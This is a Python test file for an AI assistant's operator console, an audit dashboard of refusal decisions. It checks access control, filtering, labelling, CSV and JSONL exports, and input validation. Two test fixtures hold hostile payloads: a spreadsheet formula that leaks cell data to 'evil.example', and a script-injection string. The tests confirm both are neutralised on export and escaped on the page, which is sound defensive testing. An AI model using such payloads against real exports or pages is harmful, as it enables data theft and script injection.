"""The operator console of the running app over HTTP, on SQLite and PostgreSQL: 401 and 403 on every
route for the wrong people, and the operator's pages, JSON and exports."""

import csv
import io
import json

import httpx
import pytest

from assistant.safety.audit import pseudonym
from memory import store
from memory.db import write
from memory.models import AuditRecord, Author, UsageRecord
from tests.appserver import fresh, signed_in_operator

# The shared app's database holds other modules' records too: every query of the console's numbers
# is narrowed to this module's user by her pseudonym (filled in by the fixture).
OURS: dict[str, str] = {}
_uma: dict[str, str] = {}  # her user name, for a test that adds to her records


@pytest.fixture(scope="module")
def console(shared_app):
    server, engine = shared_app
    yield from _signed_in(server, engine)


def _signed_in(server, engine):
    # "olga" as the tests below name her; unique on the shared app, since only this module uses it.
    operator = signed_in_operator(server, engine, "olga")
    user = httpx.Client(base_url=server.base_url, timeout=30)
    name = fresh("uma")
    assert server.login(user, name, "password1").status_code == 200

    def seed(session):
        uma = store.get_user(session, identifier=name)
        store.upsert_thread(session, thread_id="console-uma-t", user_id=uma.id)
        for i, (decision, rules) in enumerate([("refuse", ["IWP.R1"]), ("safe_complete", ["SSH.S1"]),
                                               ("refuse", ["VIO.R1"])]):
            store.save_message(session, step_id=f"um{i}", thread_id="console-uma-t", user_id=uma.id,
                               author=Author.USER, content=f"uma's request number {i}")
            store.save_message(session, step_id=f"ur{i}", thread_id="console-uma-t", user_id=uma.id,
                               author=Author.ASSISTANT, content=f"the reply number {i}")
            session.add(AuditRecord(pseudonym=pseudonym(session, user_id=uma.id), thread_id="console-uma-t",
                                    message_id=f"um{i}", reply_id=f"ur{i}", decision=decision,
                                    rule_ids_json=json.dumps(rules), rationale=f"rationale {i}",
                                    spec_version="v1", model="fake-chat", latency_ms=50.0))
        return pseudonym(session, user_id=uma.id)

    OURS.update(pseudonym=write(engine, seed))
    _uma.update(name=name)
    yield server, engine, operator, user
    operator.close()
    user.close()


ROUTES = [("GET", "/console"), ("GET", "/console/"), ("GET", "/console/records/1"), ("POST", "/console/records/1/label"),
          ("GET", "/console/export.csv"), ("GET", "/console/export.jsonl"), ("GET", "/api/console/records"),
          ("GET", "/api/console/records/1"), ("POST", "/api/console/records/1/label"), ("GET", "/api/console/metrics"),
          ("GET", "/api/console/export?format=csv"), ("GET", "/console/usage"), ("GET", "/api/console/usage")]


@pytest.mark.parametrize("method, path", ROUTES)
def test_every_console_route_is_401_anonymous_and_403_for_a_user(console, method, path):
    server, _, _, user = console
    anonymous = httpx.request(method, server.base_url + path, json={"label": "correct"}, timeout=30)
    assert anonymous.status_code == 401
    assert "uma's request" not in anonymous.text and "rationale" not in anonymous.text
    signed_in = user.request(method, path, json={"label": "correct"})
    assert signed_in.status_code == 403 and "uma's request" not in signed_in.text


def test_the_operator_filters_reads_labels_and_exports(console):
    _, engine, operator, _ = console
    listing = operator.get("/api/console/records", params={"decision": "refuse", **OURS}).json()
    assert [r["rule_ids"] for r in listing["records"]] == [["VIO.R1"], ["IWP.R1"]] and listing["total"] == 2
    assert "uma's request" not in json.dumps(listing)  # no message text in lists
    page = operator.get("/console", params={"decision": "refuse", **OURS})
    assert page.status_code == 200 and "text/html" in page.headers["content-type"]
    assert "2 records" in page.text and "<svg id='chart'" in page.text
    assert "uma&#x27;s request number 0" in page.text  # an excerpt of each request, for triage (logged below)
    assert "deliberation failed on 0 of 2 audited records (0.0%)" in page.text
    record_id = listing["records"][1]["id"]
    detail = operator.get(f"/console/records/{record_id}").text
    assert "uma&#x27;s request number 0" in detail and "the reply number 0" in detail and "IWP.R1" in detail
    saved = operator.post(f"/console/records/{record_id}/label", data={"label": "over_refusal", "note": "chemistry class"},
                          follow_redirects=False)
    assert saved.status_code == 303
    assert "Over-refusal by olga" in operator.get(f"/console/records/{record_id}").text
    metrics = operator.get("/api/console/metrics", params=OURS).json()
    assert metrics["reviewed_refusals"] == 1 and metrics["over_refusal_share"] == 1.0
    exported = operator.get("/console/export.csv", params={"decision": "refuse", **OURS}).text
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert [r["rule_ids"] for r in rows] == ["IWP.R1", "VIO.R1"] and rows[0]["request"] == "uma's request number 0"
    assert rows[0]["label"] == "over_refusal" and rows[0]["note"] == "chemistry class"
    lines = operator.get("/api/console/export",
                         params={"format": "jsonl", "rule_id": "SSH.S1", **OURS}).text.splitlines()
    assert [json.loads(line)["decision"] for line in lines] == ["safe_complete"]
    with engine.connect() as conn:
        from sqlalchemy import text

        actions = [tuple(r) for r in conn.execute(text(
            "SELECT operator, action, detail FROM operator_action WHERE operator = 'olga' ORDER BY id"))]
    assert actions[:4] == [("olga", "view", "excerpt"), ("olga", "view", "excerpt"), ("olga", "view", None),
                           ("olga", "label", "over_refusal")]  # the list page's two excerpts, the record, its label
    assert [a[:2] for a in actions].count(("olga", "export")) == 2


@pytest.mark.parametrize("params, status, says", [
    ({"date_from": "2026-13-01"}, 400, "must be a date like"),
    ({"date_from": "2026-11-20", "date_to": "2026-11-01"}, 400, "date range is empty"),
    ({"rule_id": "NOPE.R1"}, 400, "Unknown rule id"),
    ({"page": "99999999999999999"}, 200, "There are only 1 page(s)"),
    ({"page": "-3"}, 400, "page starts at 1"),
])
def test_bad_filters_are_answered_clearly(console, params, status, says):
    _, _, operator, _ = console
    answer = operator.get("/api/console/records", params={**params, **OURS})
    assert answer.status_code == status and says in answer.text
    page = operator.get("/console", params={**params, **OURS})
    assert page.status_code == status and says in page.text


def test_a_label_on_a_record_that_does_not_exist_or_a_bad_label(console):
    _, _, operator, _ = console
    missing = operator.post("/api/console/records/987654/label", json={"label": "correct"})
    assert missing.status_code == 404 and "no audit record 987654" in missing.json()["detail"]
    assert operator.post("/console/records/987654/label", data={"label": "correct"}).status_code == 404
    bad = operator.post("/api/console/records/1/label", json={"label": "meh"})
    assert bad.status_code == 400 and "A label is one of" in bad.json()["detail"]
    assert operator.get("/api/console/records/987654").status_code == 404


def test_a_message_that_looks_like_a_formula_is_exported_as_text_in_csv_and_exact_in_jsonl(console):
    _, engine, operator, _ = console
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'

    def seed(session):
        uma = store.get_user(session, identifier=_uma["name"])
        store.save_message(session, step_id="formula-m", thread_id="console-uma-t", user_id=uma.id,
                           author=Author.USER, content=formula)
        session.add(AuditRecord(pseudonym=pseudonym(session, user_id=uma.id), thread_id="console-uma-t",
                                message_id="formula-m", reply_id="", decision="refuse", rule_ids_json='["IWP.R1"]',
                                rationale="-1 looks like a number", spec_version="formula-spec", model="fake-chat",
                                latency_ms=5.0))

    write(engine, seed)
    for path, params in (("/console/export.csv", {}), ("/api/console/export", {"format": "csv"})):
        exported = operator.get(path, params={**params, "spec_version": "formula-spec"}).text
        (row,) = csv.DictReader(io.StringIO(exported))
        assert (row["request"], row["rationale"]) == ("'" + formula, "'-1 looks like a number"), path
    (line,) = operator.get("/console/export.jsonl", params={"spec_version": "formula-spec"}).text.splitlines()
    assert json.loads(line)["request"] == formula



@pytest.mark.parametrize("body, says", [({"label": 5}, "A label is one of correct, over_refusal, under_refusal."),
                                        ({"note": "n"}, "A label is one of"),
                                        ({"label": "correct", "note": ["n"]}, "A note is text (or left out).")])
def test_a_label_of_the_wrong_shape_is_a_400_sentence(console, body, says):
    _, _, operator, _ = console
    record_id = operator.get("/api/console/records").json()["records"][0]["id"]
    before = operator.get(f"/api/console/records/{record_id}").json()["label"]
    response = operator.post(f"/api/console/records/{record_id}/label", json=body)
    assert response.status_code == 400 and response.json()["detail"].startswith(says), response.text
    assert operator.get(f"/api/console/records/{record_id}").json()["label"] == before


def test_a_hostile_message_and_operator_name_appear_escaped_exactly_once(console):
    """The templates escape what they print once; nothing arrives pre-escaped (CSV and Markdown helpers stay out)."""
    from html import escape

    _, engine, operator, _ = console
    hostile = "<script>alert('owned')</script> & \"q\""

    def seed(session):
        uma = store.get_user(session, identifier=_uma["name"])
        store.save_message(session, step_id="hostile-m", thread_id="console-uma-t", user_id=uma.id,
                           author=Author.USER, content=hostile)
        record = AuditRecord(pseudonym=pseudonym(session, user_id=uma.id), thread_id="console-uma-t", message_id="hostile-m",
                             reply_id="", decision="deliberation_failed", rule_ids_json="[]", rationale=hostile,
                             spec_version="hostile-spec", model="fake-chat", latency_ms=5.0, label="correct",
                             labelled_by=hostile, note="=1+1")
        session.add(record)
        session.flush()
        return record.id

    record_id = write(engine, seed)
    page = operator.get(f"/console/records/{record_id}")
    assert page.status_code == 200 and "<script>alert" not in page.text and "&amp;lt;" not in page.text
    once = escape(hostile)
    assert f"<div class='box' id='request'>{once}</div>" in page.text
    assert f"<div class='box' id='rationale'>{once}</div>" in page.text
    assert f"Correct by {once} at " in page.text and ": =1+1</p>" in page.text  # no CSV quote on the note
    assert "style-src 'self' 'unsafe-inline'" in page.headers["content-security-policy"]  # Chainlit's needs it


def test_a_filter_that_cannot_be_met_lists_nothing_and_shows_back_what_was_typed(console):
    _, _, operator, _ = console
    typed = {"date_from": "2026-12-20", "date_to": "2026-12-01", "decision": "refuse", **OURS}
    for path in ("/console", "/console/"):
        page = operator.get(path, params=typed)
        assert page.status_code == 400 and "The date range is empty" in page.text and "Nothing is listed" in page.text
        assert "id='records'" not in page.text and "id='export-csv'" not in page.text  # no export of everything
        assert "uma&#x27;s request" not in page.text and "<svg id='chart'" not in page.text
        for name in ("date_from", "date_to", "pseudonym"):
            assert f"name='{name}' type='{'date' if name.startswith('date') else 'text'}' value='{typed[name]}'" in page.text
        assert "<option value='refuse' selected>Refused</option>" in page.text
    wrong = operator.get("/console/", params={"date_from": "2026-13-01", **OURS})
    assert wrong.status_code == 400 and "must be a date like" in wrong.text and "id='records'" not in wrong.text


def test_over_refusal_labels_refusals_only_so_the_metric_counts_every_one(console):
    _, engine, operator, _ = console

    def seed(session):
        uma = store.get_user(session, identifier=_uma["name"])
        ids = {}
        for decision in ("safe_complete", "deliberation_failed"):
            record = AuditRecord(pseudonym=pseudonym(session, user_id=uma.id), thread_id="console-uma-t", message_id="",
                                 reply_id="", decision=decision, rule_ids_json="[]", rationale="r",
                                 spec_version="label-rule-spec", model="fake-chat", latency_ms=5.0)
            session.add(record)
            session.flush()
            ids[decision] = record.id
        return ids

    ids = write(engine, seed)
    for decision, record_id in ids.items():
        answer = operator.post(f"/api/console/records/{record_id}/label", json={"label": "over_refusal"})
        assert answer.status_code == 400 and "for refusals only" in answer.json()["detail"], decision
        form = operator.post(f"/console/records/{record_id}/label", data={"label": "over_refusal"}, follow_redirects=True)
        assert form.status_code == 200 and "for refusals only" in form.text  # shown on the record's page
        assert "value='over_refusal'" not in form.text  # and not offered by its menu
        assert operator.post(f"/api/console/records/{record_id}/label", json={"label": "under_refusal"}).status_code == 200
    metrics = operator.get("/api/console/metrics", params={"spec_version": "label-rule-spec"}).json()
    assert metrics["reviewed_refusals"] == 0 and metrics["over_refusal_share"] is None
    labelled = operator.get("/api/console/records", params={"spec_version": "label-rule-spec", "label": "over_refusal"})
    assert labelled.json()["total"] == 0  # no over_refusal the metric does not count


def test_the_label_menu_asks_first_and_a_label_left_unchosen_is_refused(console):
    _, _, operator, _ = console
    record_id = operator.get("/api/console/records", params={"decision": "refuse", **OURS}).json()["records"][0]["id"]
    before = operator.get(f"/api/console/records/{record_id}").json()["label"]
    page = operator.get(f"/console/records/{record_id}").text
    assert "<select id='label' name='label' required>\n<option value='' disabled selected>Choose…</option>" in page
    assert " selected>" not in page.replace("disabled selected>", "")  # no label chosen for the operator
    unchosen = operator.post(f"/console/records/{record_id}/label", data={"label": "", "note": "x"}, follow_redirects=True)
    assert unchosen.status_code == 200 and "A label is one of" in unchosen.text
    assert operator.get(f"/api/console/records/{record_id}").json()["label"] == before


def test_the_operator_sees_usage_per_day_purpose_model_and_user(console):
    _, engine, operator, _ = console

    def seed(session):
        session.add(UsageRecord(pseudonym=OURS["pseudonym"], purpose="chat", model="console-usage-model",
                                tokens_in=123_456, tokens_out=7_890, ms=250.0))
        session.add(UsageRecord(pseudonym=OURS["pseudonym"], purpose="safety", model="console-usage-model",
                                tokens_in=1_000, tokens_out=10, estimated=True, outcome="ModelTimeout", ms=900.0))

    write(engine, seed)
    report = operator.get("/api/console/usage", params={"days": "7"}).json()
    assert report["days_shown"] == 7 and len(report["days"]) == 7
    (model,) = [m for m in report["models"] if m["model"] == "console-usage-model"]
    assert (model["calls"], model["tokens_in"], model["tokens_out"], model["estimated"], model["failed"]) == (
        2, 124_456, 7_900, 1, 1)
    assert OURS["pseudonym"] in [u["pseudonym"] for u in report["users"]]
    page = operator.get("/console/usage")
    assert page.status_code == 200 and "<svg id='usage-chart'" in page.text
    assert "console-usage-model" in page.text and "124,456" in page.text and OURS["pseudonym"] in page.text
    assert "uma's request" not in page.text  # counts only, never message text
    assert operator.get("/console/usage", params={"days": "5"}).status_code == 400
